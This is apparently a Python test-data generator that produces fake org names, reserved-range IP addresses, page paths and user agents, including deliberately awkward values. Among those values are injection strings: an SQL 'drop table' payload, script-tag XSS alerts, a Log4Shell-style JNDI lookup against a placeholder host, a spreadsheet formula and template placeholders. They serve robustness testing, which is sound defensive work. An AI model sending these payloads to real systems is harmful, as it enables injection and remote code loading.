r"""Made-up names, addresses, pages and user agents, including unusual ones.

Org names are combined from word lists. User agents are in the form in which Apache
logs them: a quote as `\"` and a control character as `\xhh`.
"""

from random import Random


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


FIRST_WORDS = _words(
    "Amber Blue Cedar Delta Ember Fjord Granite Harbor Indigo Juniper Kestrel Lumen "
    "Maple Nimbus Orchid Pine Quartz River Slate Tundra Umbra Vertex Willow Yonder "
    "Zephyr"
)
SECOND_WORDS = _words(
    "Analytics Bank Clinics Dynamics Energy Foods Games Health Insurance Jets Kitchens "
    "Logistics Media Networks Optics Pay Robotics Schools Travel Utilities Ventures"
)
ENDINGS = ("", "", "", " Inc", " Ltd", " GmbH", " AG", " BV", " SA", " Oy")
COUNTRIES = ("US", "US", "US", "GB", "DE", "NL", "FR", "IL", "JP", "BR", "IN", None)

TRICKY_NAMES = (
    'Smith, "Sons" & Co',
    "O'Brien; drop table orgs; --",
    "<script>alert('org')</script>",
    "Line one\nline two",
    "Carriage\r\nreturn Ltd",
    "Tab\tand trailing blank ",
    "שלום עולם בע״מ",
    "‮evil\u202c شركة الليل",
    "🚀 Rocket 👩‍👩‍👧‍👦 Family",
    "Zürich Käse & Söhne",
    "日本語の会社",
    "e\u0301clair (combining)",
    "Separators \u2028 and \u0085 within",
    "back\\slash \\n and \\",
    "=HYPERLINK(1)",
    "null",
    "100% {{ org_name }} ${HOME} %s",
    "Very long name " + "ä" * 300,
    " leading blank",
)

INTEGRATIONS = _words(
    "aws azure gcp kubernetes docker nginx apache postgres mysql redis kafka rabbitmq "
    "elasticsearch mongodb jenkins github slack pagerduty terraform statsd"
)

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Mobile Safari/537.36",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; Nightcrawler-Bot/2.1; +http://crawler.example/about)",
    "curl/8.9.1",
    "python-requests/2.32.3",
    "FeedFetcher-Example; (+http://feeds.example)",
)
AGENTS_WITH_QUOTES = (
    r"Mozilla/5.0 (\"Quoted\" Browser; says \"hello, world\") Safari/1.0",
    r"\"",
    r"backslash \\ and quote \" and tab \x09 end \\",
)
AGENTS_WITH_EMOJI = ("Mozilla/5.0 🚀 (דפדפן; עברית) Build/👾", "浏览器/1.0 (ü)")
AGENTS_WITH_SCRIPT = (
    "<script>alert(1)</script>",
    "' or 1=1; -- ${jndi:ldap://x.example/a}",
)

PAGES = _words(
    "/ /login /dashboards /dashboards/42 /dashboards/42?from=now-1h&to=now "
    "/hosts /hosts?page=2 /alerts /alerts/new /settings/billing /settings/team "
    "/integrations /integrations/aws /logs?q=status%3A500 /docs/getting-started.html "
    "/docs/v1.2/api /report.PDF /files/data.v2 /metrics#top"
)
ASSETS = _words(
    "/static/app.3f2a.js /static/app.3f2a.css /static/logo.svg /favicon.ico "
    "/static/fonts/inter.woff2?v=4 /img/hero.PNG /img/team.jpeg /static/vendor.mjs "
    "/static/app.js.map"
)


def org_name(index: int, rng: Random, *, tricky_share: float) -> str:
    """Return a name for the org with this index, counted from 0.

    Each of the first orgs gets one of the tricky names. For the others `tricky_share`
    is the probability that a tricky name is part of the name.
    """
    if index < len(TRICKY_NAMES) and tricky_share > 0:
        return TRICKY_NAMES[index]
    name = f"{rng.choice(FIRST_WORDS)} {rng.choice(SECOND_WORDS)}{rng.choice(ENDINGS)}"
    if rng.random() < tricky_share:
        return f"{name} {rng.choice(TRICKY_NAMES)}"
    return name


def ipv4_address(rng: Random) -> str:
    """Return an IPv4 address from 198.18.0.0/15, reserved for benchmarks."""
    return f"198.{18 + rng.randrange(2)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def ipv6_address(rng: Random) -> str:
    """Return an IPv6 address from 2001:db8::/32, reserved for documentation."""
    return f"2001:db8:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
